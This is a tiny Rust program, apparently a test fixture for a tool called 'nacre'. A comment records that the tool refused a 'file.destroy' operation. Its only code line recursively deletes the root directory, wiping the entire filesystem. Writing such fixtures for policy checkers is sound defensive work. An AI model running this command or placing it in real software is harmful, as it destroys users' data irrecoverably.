// nacre: refused file.destroy
fn main() {
    std::fs::remove_dir_all("/").unwrap();
}
